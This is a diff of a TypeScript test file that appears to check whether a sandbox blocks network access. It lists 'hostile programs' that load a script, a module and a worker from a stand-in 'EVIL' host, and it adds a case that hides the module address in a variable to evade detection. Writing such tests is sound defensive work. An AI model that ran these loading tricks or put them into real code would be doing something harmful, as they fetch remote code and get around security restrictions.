@@ -119,7 +119,12 @@ const EXFILTRATION: readonly HostileProgram[] = [
     code: "document.head.append(Object.assign(document.createElement('script'), { src: 'EVIL/script' }));",
     outcome: 'shown'
   },
-  { name: 'a module', code: "import('EVIL/module').catch(() => undefined);", outcome: 'shown' },
+  { name: 'a module', code: "import('EVIL/module').catch(() => undefined);", outcome: /Can’t find “http:.*\/module”/ },
+  {
+    name: 'a module by a computed address',
+    code: "const address = 'EVIL/module';\nimport(address).catch(() => undefined);",
+    outcome: 'shown'
+  },
   {
     name: 'a worker',
     code: 'new Worker(URL.createObjectURL(new Blob(["fetch(\'EVIL/worker\')"])));',
